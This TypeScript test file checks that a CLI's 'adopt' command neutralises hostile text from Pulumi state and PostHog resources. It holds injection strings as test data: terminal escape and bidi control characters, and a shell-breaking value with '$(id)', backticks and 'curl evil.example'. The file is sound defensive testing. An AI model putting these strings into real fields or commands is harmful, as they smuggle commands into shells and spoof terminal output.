import { execFileSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { registerAdopt } from "../../../cli/adopt";
import * as pulumi from "../../../cli/common/pulumi";
import { SYSTEM } from "../../../emulator";
import { nativeType } from "../../../provider/access/typeTokens";
import { runCommand, withFolder } from "../../support/command";
import { type World, withWorld } from "../../support/driver";
import { acmeWorld } from "../../support/seeds";

/** What moves a cursor, colors, hides or reorders text, or begins a line; and what a shell would run. */
const hostile = "\u001b[2J\u009b31m\u202eevil\u2066\u200b\u2028\r\n  fix: sh\u{e0041}\ud800'$(id)`id`";
const obeyed = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;

const dynamic = (kind: string): string => `pulumi-nodejs:dynamic/posthog:${kind}`;
const urnOf = (type: string, name: string): string => `urn:pulumi:dev::acme::${type}::${name}`;

/** A program and a state whose every text is that one, as pulumi answers them. */
function answerWith(text: string, roleId: string) {
  const planned = (type: string, name: string, inputs: object) => {
    const newState = { urn: urnOf(type, `${name}${text}`), type, custom: true, inputs };
    return { op: "create", urn: newState.urn, newState };
  };
  const role = { urn: urnOf(dynamic("Role"), `earlier${text}`), id: roleId };
  const steps = [
    planned(dynamic("Role"), "role", { name: "Analysts" }),
    planned(dynamic("Project"), "project", { name: `New ${text}` }),
    planned(dynamic("Project"), "named", { name: "Named" }),
    planned(dynamic("PersonalApiKey"), "key", { label: text }),
    planned(dynamic("Other"), "other", {}),
    planned(nativeType("Role"), "native", { name: text }),
  ];
  return async (args: readonly string[]) => {
    const plan = args[args.indexOf("--save-plan") + 1];
    if (args.includes("--save-plan") && plan !== undefined)
      writeFileSync(plan, JSON.stringify({ resourcePlans: {} }));
    const answers: Readonly<Record<string, string>> = {
      stack:
        args[1] === "export"
          ? JSON.stringify({ version: 3, deployment: { resources: [role] } })
          : `dev${text}`,
      preview: JSON.stringify({ steps, diagnostics: [{ severity: "error", message: text }] }),
      config: "{}",
    };
    return { ok: true, stdout: answers[args[0] ?? ""] ?? "", why: "" };
  };
}

/** What adopt prints about a program whose texts are that one, and the error that it ends with. */
async function adopted({ emulator }: World, text: string, flags: readonly string[]): Promise<string> {
  const [role] = emulator.store.roles.all();
  emulator.store.projects.update(1, { name: `Live ${text}` }, SYSTEM);
  const answers = jest.spyOn(pulumi, "runPulumi").mockImplementation(answerWith(text, role?.id ?? ""));
  try {
    const args = ["adopt", "--dry-run", ...flags.map((flag) => flag.replace("TEXT", text))];
    const { printed, stderr } = await runCommand(registerAdopt, emulator, args);
    return `${printed}${stderr}`;
  } catch (error) {
    return String(Object(error).message);
  } finally {
    answers.mockRestore();
  }
}

test.each([
  ["a report", ["--id", "Project:namedTEXT=1"]],
  ["a report in JSON", ["--json", "--id", "Project:namedTEXT=1"]],
  ["an error about an id of nothing", ["--id", "Project:nobodyTEXT=1"]],
  ["an error about an id that the state contradicts", ["--id", "Role:earlierTEXT=x"]],
])("text of the state, the program and PostHog stays text in %s", (_, flags) =>
  withWorld(
    (world) =>
      withFolder(async () => {
        const harmless = (await adopted(world, "evil", flags)).split("\n");
        const lines = (await adopted(world, hostile, flags)).split("\n");
        expect(lines).toHaveLength(harmless.length);
        expect(lines.filter((line) => line.includes("evil")).length).toBeGreaterThan(0);
        for (const line of lines) expect(line).not.toMatch(obeyed);
      }),
    acmeWorld({ organization: { roles: [{ name: "Analysts" }] } }),
  ),
);

test.each([
  [/run pulumi state delete (.*) and adopt again/, ["--id", "Role:earlierTEXT=x"], /::earlier/],
  [/run pulumi import posthog:\S+ (.*) <id>/, [], /^native/],
])("a command to copy has such text as one word for a shell: %s", (command, flags, start) =>
  withWorld(
    async (world) => {
      const text = "'; curl evil.example; '$(id)`id`\\";
      const [, word = ""] = command.exec(await adopted(world, text, flags)) ?? [];
      const read = execFileSync("sh", ["-c", `printf %s ${word}`], { encoding: "utf8" });
      expect(read).toMatch(start);
      expect(read.endsWith(text)).toBe(true);
    },
    acmeWorld({ organization: { roles: [{ name: "Analysts" }] } }),
  ),
);
